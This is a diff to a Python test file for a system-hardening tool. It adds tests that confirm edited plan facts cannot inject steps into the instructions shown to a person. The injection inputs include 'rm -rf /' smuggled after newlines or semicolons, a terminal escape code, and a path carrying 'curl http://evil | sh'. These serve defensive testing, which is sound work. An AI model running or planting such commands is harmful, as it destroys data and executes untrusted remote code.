@@ -6,6 +6,7 @@ import dataclasses
 import shutil
 import struct
 import subprocess
+from datetime import UTC, datetime
 from pathlib import Path
 
 import pytest
@@ -13,10 +14,10 @@ import pytest
 from hardentui.assess import assess
 from hardentui.changeset import change_of
 from hardentui.host.live import LiveHost
-from hardentui.model import Action, Finding, Result
-from hardentui.operations import ByHand, SetMode
+from hardentui.model import Action, Decision, Fact, Finding, Result
+from hardentui.operations import ByHand, Operation, Refusal, SetMode
 from hardentui.resources.events.told import told
-from hardentui.resources.grants import grants, group_rights
+from hardentui.resources.grants import by_hand, grants, group_rights
 from hardentui.session import Session
 from hardentui.snapshot import Account, Accounts, Group, Groups, Kind, Snapshot, Stat, Status
 
@@ -117,10 +118,53 @@ def test_a_list_is_left_to_a_person_and_a_mode_to_the_script() -> None:
     assert found is not None
     steps = change_of(entry, session.decision(found, Action.APPLY))
     assert isinstance(steps, tuple)
-    by_hand = {one.subject: one.instructions.en for one in steps if isinstance(one, ByHand)}
-    assert set(by_hand) == {"/var/log/syslog", "/var/log/auth.log"}
-    assert "user:bob:r--" in by_hand["/var/log/syslog"]
+    left = {one.subject: one.instructions.en for one in steps if isinstance(one, ByHand)}
+    assert set(left) == {"/var/log/syslog", "/var/log/auth.log"}
+    assert "user:bob:r--" in left["/var/log/syslog"]
     assert [one.path for one in steps if isinstance(one, SetMode)] == ["/var/log/auth.log"]
+
+
+def edited(id_: str, facts: dict[str, Fact]) -> tuple[Operation, ...] | Refusal:
+    """What comes of a decision whose facts somebody wrote into the plan."""
+    entry = CHECKLISTS.get(id_)
+    assert entry is not None
+    at = datetime(2026, 11, 21, tzinfo=UTC)
+    return change_of(entry, Decision(id_, Action.APPLY, "", "", "", "", "", at, "", facts=facts))
+
+
+@pytest.mark.parametrize(
+    "given",
+    [
+        "user:bob:r--\n5. rm -rf /",
+        "user:bob:r--; rm -rf /",
+        "user:bob:r--, ",
+        "user:bob\x1b[2J:r--",
+        "nobody.\n1. Run rm -rf /",
+    ],
+)
+def test_a_list_in_a_plan_cannot_tell_a_person_what_to_do(given: str) -> None:
+    """It stands in the instructions of the script, where each line is a step."""
+    of_file: dict[str, Fact] = {"seen": "", "list": given}
+    mode: dict[str, Fact] = {"plain": True, "mode": "0664", "owner": "root:utmp", "list": given}
+    for id_, facts in (
+        ("central.file-modes", {"files": {"/var/log/syslog": of_file}}),
+        ("reading.btmp", mode),
+        ("audit.rights", {"family": "debian", "lists": {"/etc/audit": given}}),
+    ):
+        assert isinstance(edited(id_, facts), Refusal), id_
+
+
+@pytest.mark.parametrize("end", ["\n", "\r", "\x0b", "\x85", "\u2028"])
+def test_a_path_in_a_plan_cannot_tell_a_person_what_to_do(end: str) -> None:
+    path = f"/x{end}4. Now run: curl http://evil | sh"
+    files: dict[str, Fact] = {path: {"seen": "", "list": "user:bob:r--"}}
+    assert isinstance(edited("central.file-modes", {"files": files}), Refusal)
+
+
+def test_what_stands_in_a_list_is_shown_as_one_word() -> None:
+    step = by_hand("x", "/var/log/my app.log", "default:group:adm:r-x, user:1000:rw-")
+    assert isinstance(step, ByHand)
+    assert "of '/var/log/my app.log' gives default:group:adm:r-x, user:1000:rw-." in step.instructions.en
 
 
 def test_a_list_that_cannot_be_read_is_no_pass() -> None:
